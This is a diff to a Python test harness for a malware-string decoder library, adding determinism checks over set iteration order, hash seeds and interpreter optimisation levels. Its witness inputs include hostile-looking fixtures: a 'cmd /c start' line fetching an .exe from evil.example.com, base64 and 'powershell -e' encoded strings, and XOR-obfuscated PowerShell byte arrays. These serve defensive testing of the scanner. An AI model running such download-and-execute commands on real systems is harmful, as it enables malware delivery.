@@ -37,7 +37,28 @@ HIST_INPUTS = [b'x strlen "a.e"+"xe" y', b"x cmd /c ping 8.8.4.4 http://a.com/b.
                b"see www.contoso.com and files.fabrikam.net now"]
 HIST_EVENTS = [(i, k) for i in range(len(HIST_INPUTS)) for k in (10, 2)] + [(3, 1), (3, 3)]
 HIST_DEPTH = {"quick": 3, "thorough": 4}
-WITNESS = [b"call strlen and StrLen then STRLEN; AutoOpen cmd windows http user-agent", b'"str" & "len" strlen', b"x StrLen(y) + powershell -e ZQBjAGgAbwAgAGIAZQBlAA=="]
+WITNESS = [b"run: cmd /c start http://evil.example.com/a.exe now 'a'+'b' (x cmd /c echo aHR0cDovL2V4YW1wbGUuY29tL2EuZXhlIDguOC40LjQ=)", b"call strlen and StrLen then STRLEN; AutoOpen cmd windows http user-agent", b'"str" & "len" strlen', b"x StrLen(y) + powershell -e ZQBjAGgAbwAgAGIAZQBlAA=="]
+
+
+def xor_tie_input(key=b"\x5a\xc3\x17\x88", n=160):
+    """A PowerShell byte array xor-ed with a 4-byte key that is not a literal (so the multi-byte key guesser runs) in which two key columns have two
+    equally frequent byte values: the guesser has several equally good candidate keys and must pick among them deterministically."""
+    lo = [0x10, 0x20] * (3 * n // 8) + [0x30] * (n - 2 * (3 * n // 8))
+    mi = [0x00, 0x01] * (7 * n // 16) + [0x02] * (n - 2 * (7 * n // 16))
+    st = 12345
+    for vals in (lo, mi):
+        for i in range(len(vals) - 1, 0, -1):
+            st = (st * 1103515245 + 12345) % 2**31
+            j = st % (i + 1)
+            vals[i], vals[j] = vals[j], vals[i]
+    plain = b"".join(bytes([a, b, 0, 0]) for a, b in zip(lo, mi))
+    cipher = bytes(c ^ key[i % len(key)] for i, c in enumerate(plain))
+    arr = ", ".join("0x%02x" % c for c in cipher)
+    return ("[Byte[]] $buf = %s\nfor ($i = 0; $i -lt $buf.Length; $i++) { $buf[$i] = $buf[$i] -bxor $key[$i %% $key.Length] }\n" % arr).encode()
+
+
+WITNESS.append(xor_tie_input())
+WITNESS.append(xor_tie_input(b"K3y", 200))
 SEEDS = {"quick": range(0, 4), "thorough": range(0, 16)}
 SHIPPED_KW = os.path.join(os.path.dirname(multidecoder.__file__), "keywords")
 
@@ -51,10 +72,11 @@ def describe(tier):
             "scan on the shared scanner afterwards is still correct; a replayed prefix that diverges is a hard error. (2) Histories: BFS over ALL sequences "
             f"of <= {HIST_DEPTH[tier]} scan events on one instance from {len(HIST_EVENTS)} events = (one of {len(HIST_INPUTS)} inputs incl. nested base64 and case variants of one domain) x (depth limit 10 / 2 / 1 / 3); a state is the hash of every mutable object reachable from the scanner and "
             "from multidecoder.* module globals (lists, dicts, sets, defaults, closures, functools caches); every transition's result must equal the "
-            "fresh-scanner result. (2b) every input of the mix/shell/net/concat/kw scan-level families is scanned at depth 10, 1, 10 on one long-lived scanner: first and third tree must be equal and the depth-1 tree must equal that of a scanner only ever used at depth 1. (3) Enumeration orders: ALL permutations of the iteration order of every keyword set and of every directory listing "
+            "fresh-scanner result. (2b) every input of the mix/shell/net/concat/kw scan-level families is scanned at depth 10, 1, 10 on one long-lived scanner: first and third tree must be equal, the first tree must not change while the later scans run, and the depth-1 tree must equal that of a scanner only ever used at depth 1. (3) Enumeration orders: ALL permutations of the iteration order of every keyword set and of every directory listing "
             "of the fixture keyword directory (seams: multidecoder.registry.set, os.walk), and for the shipped keywords ALL relative orders of the files of "
-            "every group of files that share a word ignoring case; the trees of witness inputs must all be equal. (4) Processes: the same witness inputs "
-            f"and the CLI in fresh processes under PYTHONHASHSEED {list(SEEDS[tier])[0]}..{list(SEEDS[tier])[-1]} must give byte-identical JSON, equal to the in-process result. "
+            "every group of files that share a word ignoring case; the trees of witness inputs must all be equal. (3b) every set of str/bytes built by ANY multidecoder.* module while a witness is scanned "
+            f"(seam: `set`/`frozenset` in each module namespace) is iterated in each of the orders {SET_ORDERS}; witnesses include xor-ed byte arrays with tied key candidates (multi-byte key guesser). (4) Processes: the same witness inputs "
+            f"and the CLI in fresh processes under PYTHONHASHSEED {list(SEEDS[tier])[0]}..{list(SEEDS[tier])[-1]} (and interpreter optimisation levels none / -O / -OO) must give byte-identical JSON, equal to the in-process result. "
             "states = distinct scheduler switch points (thread-0 location, thread-1 location) + history states + registry orders, transitions = scheduler steps + "
             "history transitions, traces = executions compared. Non-trivial = schedule in which a preemption really interleaved two scans (both threads alive)."
         ),
@@ -102,6 +124,7 @@ def plan(tier, seed):
     units += [("orders-fixture", i, 8) for i in range(8)]
     units += [("orders-shipped", i, 8) for i in range(8)]
     units.append(("seeds", tier))
+    units += [("setorder", i) for i in range(len(WITNESS))]
     return units
 
 
@@ -422,6 +445,85 @@ def run_orders_shipped(rec, part, nparts):
     rec.sample({"shipped_file_groups_sharing_a_word": len(groups), "orders_checked_here": n})
 
 
+# ---- (3b) set iteration order anywhere in the library ------------------------------------------------------------------------
+
+SET_ORDERS = ["sorted", "reversed", "rotate1", "rotate-1", "evens-first"]
+
+
+def _order(name, items):
+    if name == "reversed":
+        return items[::-1]
+    if name == "rotate1":
+        return items[1:] + items[:1]
+    if name == "rotate-1":
+        return items[-1:] + items[:-1]
+    if name == "evens-first":
+        return items[::2] + items[1::2]
+    return items
+
+
+class SetSeam:
+    """Own the iteration order of every set the library builds at scan time: `set`/`frozenset` resolve through each multidecoder.* module's
+    namespace to a subclass that iterates str/bytes elements (the types whose hash depends on PYTHONHASHSEED) in the chosen order."""
+
+    def __init__(self, order):
+        self.order = order
+        self.touched = []
+
+    def __enter__(self):
+        order = self.order
+
+        def it(base, s):
+            items = list(base.__iter__(s))
+            if items and all(isinstance(x, (bytes, str)) for x in items):
+                try:
+                    return iter(_order(order, sorted(items)))
+                except TypeError:
+                    pass
+            return iter(items)
+
+        class PermSet(set):
+            def __iter__(s):
+                return it(set, s)
+
+        class PermFrozen(frozenset):
+            def __iter__(s):
+                return it(frozenset, s)
+
+        for name, mod in list(sys.modules.items()):
+            if name.startswith("multidecoder") and mod is not None:
+                for attr, cls in (("set", PermSet), ("frozenset", PermFrozen)):
+                    if attr not in vars(mod):
+                        setattr(mod, attr, cls)
+                        self.touched.append((mod, attr))
+        return self
+
+    def __exit__(self, *exc):
+        for mod, attr in self.touched:
+            delattr(mod, attr)
+
+
+def run_setorder(rec, wi):
+    import multidecoder.xortool  # noqa: F401  (make sure every module that can build a set at scan time is loaded)
+    data = WITNESS[wi]
+    md = Multidecoder()
+    base = trees.tup(md.scan(data))
+    for order in SET_ORDERS:
+        rec.count("evaluations")
+        rec.mark("states", ("setorder", wi, order), True)
+        with SetSeam(order):
+            got = trees.tup(md.scan(data))
+        rec.count("traces")
+        rec.count("transitions")
+        if len(base[5]) > 0:
+            rec.mark("nontrivial", 0, True)
+        if got != base:
+            rec.violation("C09.orders.same-tree", "set-iteration-order|scan-time", {"kind": "setorder", "witness": wi, "order": order},
+                          f"iterating the str/bytes sets built during the scan of witness #{wi} ({core.short(data, 60)}) in order '{order}' changes the tree: "
+                          f"{core.short(got, 160)} vs {core.short(base, 160)}", wi)
+    rec.sample({"set_orders": SET_ORDERS, "witness": wi})
+
+
 # ---- (4) processes --------------------------------------------------------------------------------------------------
 
 CHILD = r"""
@@ -456,7 +558,8 @@ def run_seeds(rec, tier):
         env = dict(os.environ, PYTHONHASHSEED=str(seed))
         rec.count("evaluations")
         rec.mark("states", ("seed", seed), True)
-        r = subprocess.run([sys.executable, "-c", CHILD, families.FIXTURE_KW, json.dumps(ws), core.REPO_SRC], capture_output=True, text=True, env=env, timeout=300)
+        opt = ["", "-O", "-OO"][seed % 3]  # the interpreter's optimisation level is part of the process configuration
+        r = subprocess.run([sys.executable] + ([opt] if opt else []) + ["-c", CHILD, families.FIXTURE_KW, json.dumps(ws), core.REPO_SRC], capture_output=True, text=True, env=env, timeout=300)
         w = {"kind": "seed", "seed": seed}
         if r.returncode != 0:
             rec.violation("C09.process.total", "child-failed", w, f"child under PYTHONHASHSEED={seed} failed: {core.short(r.stderr, 200)}", seed)
@@ -492,10 +595,11 @@ def run_twice(rec, unit):
             data = pre + s + suf
             rec.count("evaluations")
             w = {"kind": "twice", "data": data}
-            ok, t1 = rec.guard("C09.repeat.total", w, len(data), lambda: trees.tup(md.scan(data)))
+            ok, first = rec.guard("C09.repeat.total", w, len(data), md.scan, data)
             if not ok:
                 rec.note("scan raised (reported by C01)")
                 continue
+            t1 = trees.tup(first)
             ok, ts = rec.guard("C09.repeat.total", w, len(data), lambda: (trees.tup(md.scan(data, 1)), trees.tup(md.scan(data)), trees.tup(md1.scan(data, 1))))
             if not ok:
                 continue
@@ -504,6 +608,9 @@ def run_twice(rec, unit):
             if t1[5]:
                 rec.mark("nontrivial", data)
             t_shallow, t2, t_shallow_ref = ts
+            if trees.tup(first) != t1:
+                rec.violation("C09.repeat.same-tree", "earlier-result-changed-by-later-scan", w,
+                              f"the tree returned by the first scan of {data!r} changed while the same input was scanned again: {core.short(t1, 140)} -> {core.short(trees.tup(first), 140)}", len(data))
             if t1 != t2:
                 rec.violation("C09.repeat.same-tree", "second-scan-differs", w, f"scanning {data!r} at depth 10, then 1, then 10 on one scanner: {core.short(t1, 160)} then {core.short(t2, 160)}", len(data))
             if t_shallow != t_shallow_ref:
@@ -528,6 +635,8 @@ def run_unit(unit, rec):
         run_orders_shipped(rec, unit[1], unit[2])
     elif kind == "seeds":
         run_seeds(rec, unit[1])
+    elif kind == "setorder":
+        run_setorder(rec, unit[1])
 
 
 def replay(w, rec):
@@ -543,6 +652,8 @@ def replay(w, rec):
         run_orders_shipped(rec, 0, 1)
     elif k == "seed":
         run_seeds(rec, "quick")
+    elif k == "setorder":
+        run_setorder(rec, w["witness"])
     elif k == "twice":
         from mdmc.engines import streams
         md = Multidecoder(streams.registry())
